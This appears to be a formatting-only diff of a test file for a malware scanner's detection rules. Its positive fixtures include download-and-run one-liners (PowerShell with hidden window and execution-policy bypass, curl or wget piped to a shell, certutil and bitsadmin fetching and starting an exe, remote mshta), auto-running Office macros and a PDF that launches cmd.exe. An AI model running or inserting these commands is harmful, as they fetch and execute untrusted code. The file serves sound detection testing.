@@ -9,7 +9,9 @@ beforeAll(() => {
 });
 
 const match = (content: string | Buffer, name: string): string[] =>
-  engine.scan(typeof content === 'string' ? Buffer.from(content) : content, name, null).map(({ rule }) => rule);
+  engine
+    .scan(typeof content === 'string' ? Buffer.from(content) : content, name, null)
+    .map(({ rule }) => rule);
 
 /** The least that is a PE file to a rule: the two marks, and where the second stands. */
 function makePe(): Buffer {
@@ -22,7 +24,11 @@ function makePe(): Buffer {
 const makeElf = (): Buffer => Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(200)]);
 const makeMachO = (): Buffer => Buffer.concat([Buffer.from('cffaedfe07000001', 'hex'), Buffer.alloc(200)]);
 const makeLnk = (text: string): Buffer =>
-  Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(60), Buffer.from(text, 'utf16le')]);
+  Buffer.concat([
+    Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
+    Buffer.alloc(60),
+    Buffer.from(text, 'utf16le'),
+  ]);
 const makeOle = (source: string): Buffer =>
   Buffer.concat([
     Buffer.from('d0cf11e0a1b11ae1', 'hex'),
@@ -50,7 +56,11 @@ const POSITIVE: [rule: string, name: string, content: () => string | Buffer][] =
   ['Script_Named_As_Document', 'invoice.docx', () => 'Set s = CreateObject("WScript.Shell")'],
   ['Script_With_Double_Ending', 'invoice.pdf.js', () => 'var a = 1;'],
   ['Name_With_Reversed_Text', 'invoice\u202efdp.exe', () => 'x'],
-  ['PowerShell_Downloads_And_Runs', 'a.bat', () => `powershell -w hidden -ep bypass -c "${iex} ${webClient}"`],
+  [
+    'PowerShell_Downloads_And_Runs',
+    'a.bat',
+    () => `powershell -w hidden -ep bypass -c "${iex} ${webClient}"`,
+  ],
   ['PowerShell_Runs_Download', 'a.ps1', () => `${iex} ${webClient}`],
   ['PowerShell_Runs_Download', 'a.ps1', () => `iwr -useb https://x.example/a.ps1 | ${iex}`],
   [
@@ -65,7 +75,11 @@ const POSITIVE: [rule: string, name: string, content: () => string | Buffer][] =
     () =>
       'var h = new ActiveXObject("WinHttp.WinHttpRequest.5.1"); var s = new ActiveXObject("ADODB.Stream"); s.SaveToFile("a"); new ActiveXObject("Shell.Application").ShellExecute("a");',
   ],
-  ['Shell_Script_Pipes_Download', 'a.sh', () => '#!/bin/bash\nset -e\ncurl -fsSL https://x.example/i | bash\n'],
+  [
+    'Shell_Script_Pipes_Download',
+    'a.sh',
+    () => '#!/bin/bash\nset -e\ncurl -fsSL https://x.example/i | bash\n',
+  ],
   ['Shell_Script_Pipes_Download', 'a', () => '#!/bin/sh\neval "$(wget -qO- http://x.example/i)"\n'],
   [
     'Shell_Script_Drops_And_Runs',
@@ -75,7 +89,8 @@ const POSITIVE: [rule: string, name: string, content: () => string | Buffer][] =
   [
     'Batch_Downloads_And_Runs',
     'a.bat',
-    () => '@echo off\r\ncertutil -urlcache -split -f http://x.example/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n',
+    () =>
+      '@echo off\r\ncertutil -urlcache -split -f http://x.example/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n',
   ],
   [
     'Batch_Downloads_And_Runs',
@@ -83,11 +98,19 @@ const POSITIVE: [rule: string, name: string, content: () => string | Buffer][] =
     () => 'bitsadmin /transfer j http://x.example/a.exe %temp%\\a.exe\r\n%temp%\\a.exe\r\n',
   ],
   ['Mshta_Runs_Remote_Code', 'a.bat', () => 'mshta http://x.example/a.hta'],
-  ['Office_Macro_Starts_Program', 'a.doc', () => makeOle('Sub AutoOpen() CreateObject("WScript.Shell").Run "x"')],
+  [
+    'Office_Macro_Starts_Program',
+    'a.doc',
+    () => makeOle('Sub AutoOpen() CreateObject("WScript.Shell").Run "x"'),
+  ],
   ['Office_Macro_Starts_Program', 'a.xls', () => makeOle('Sub Workbook_Open() URLDownloadToFile 0')],
   ['Office_Macro_Starts_Itself', 'a.doc', () => makeOle('Sub Document_Open() Selection.Font.Bold = True')],
   ['PDF_Launches_Program', 'a.pdf', () => '%PDF-1.4\n<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'],
-  ['PDF_Runs_Script_When_Opened', 'a.pdf', () => '%PDF-1.4\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'],
+  [
+    'PDF_Runs_Script_When_Opened',
+    'a.pdf',
+    () => '%PDF-1.4\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>',
+  ],
   ['Shortcut_Calls_Shell', 'a.lnk', () => makeLnk('C:\\Windows\\System32\\cmd.exe /c dir')],
   [
     'Shortcut_Calls_Shell_With_Payload',
@@ -107,23 +130,55 @@ const NEAR_MISS: [what: string, name: string, content: () => string | Buffer][] 
   ['a script under its own ending', 'build.sh', () => '#!/bin/sh\nmake\n'],
   ['dots in a name', 'report.v1.2.pdf', () => makePdf('x')],
   ['a script that talks of documents', 'pdf.js', () => 'export const a = 1;'],
-  ['PowerShell that only downloads', 'a.ps1', () => 'Invoke-WebRequest https://x.example/a.zip -OutFile a.zip'],
+  [
+    'PowerShell that only downloads',
+    'a.ps1',
+    () => 'Invoke-WebRequest https://x.example/a.zip -OutFile a.zip',
+  ],
   ['PowerShell that only runs', 'a.ps1', () => 'powershell -ExecutionPolicy Bypass -File build.ps1'],
   ['a page that explains a command', 'install.md', () => `Run this:\n\n    ${iex} ${webClient}\n`],
-  ['WSH that downloads but runs nothing', 'a.vbs', () => 'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://x"'],
-  ['a shell script that stores a download', 'a.sh', () => '#!/bin/sh\ncurl -o a.tgz https://x.example/a.tgz\ntar xf a.tgz\n'],
-  ['a shell script that names the trick in a comment', 'a.sh', () => '#!/bin/sh\n# curl https://x.example/i | sh\necho ok\n'],
-  ['a shell script that pipes a download elsewhere', 'a.sh', () => '#!/bin/sh\ncurl https://x.example/a | tar xz\n'],
+  [
+    'WSH that downloads but runs nothing',
+    'a.vbs',
+    () => 'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://x"',
+  ],
+  [
+    'a shell script that stores a download',
+    'a.sh',
+    () => '#!/bin/sh\ncurl -o a.tgz https://x.example/a.tgz\ntar xf a.tgz\n',
+  ],
+  [
+    'a shell script that names the trick in a comment',
+    'a.sh',
+    () => '#!/bin/sh\n# curl https://x.example/i | sh\necho ok\n',
+  ],
+  [
+    'a shell script that pipes a download elsewhere',
+    'a.sh',
+    () => '#!/bin/sh\ncurl https://x.example/a | tar xz\n',
+  ],
   ['certutil that hashes', 'a.bat', () => '@echo off\r\ncertutil -hashfile a.exe SHA256\r\nstart a.exe\r\n'],
   ['mshta with a local page', 'a.bat', () => 'mshta C:\\app\\about.hta'],
-  ['a macro that does not start itself', 'a.doc', () => makeOle('Sub Format() CreateObject("WScript.Shell")')],
-  ['an Office file without macros', 'a.doc', () => Buffer.from(makeOle('Document_Open').toString('latin1').replace('_\0V', '_\0W'), 'latin1')],
+  [
+    'a macro that does not start itself',
+    'a.doc',
+    () => makeOle('Sub Format() CreateObject("WScript.Shell")'),
+  ],
+  [
+    'an Office file without macros',
+    'a.doc',
+    () => Buffer.from(makeOle('Document_Open').toString('latin1').replace('_\0V', '_\0W'), 'latin1'),
+  ],
   ['a PDF with a link to a script', 'a.pdf', () => '%PDF-1.4\n<< /S /JavaScript /JS (this.print()) >>'],
   ['a PDF that opens on a page', 'a.pdf', () => '%PDF-1.4\n<< /OpenAction [3 0 R /Fit] >>'],
   ['a PDF that launches a document', 'a.pdf', () => '%PDF-1.4\n<< /S /Launch /F (chapter2.pdf) >>'],
   ['a shortcut to a program', 'a.lnk', () => makeLnk('C:\\Program Files\\App\\app.exe --open')],
   ['a page that stores a small text', 'a.html', () => smuggle('aGVsbG8=', 'a.download = "x.txt"')],
-  ['a page with an embedded picture', 'a.html', () => `<html><img src="data:image/png;base64,${base64}"></html>`],
+  [
+    'a page with an embedded picture',
+    'a.html',
+    () => `<html><img src="data:image/png;base64,${base64}"></html>`,
+  ],
 ];
 
 describe('each rule', () => {
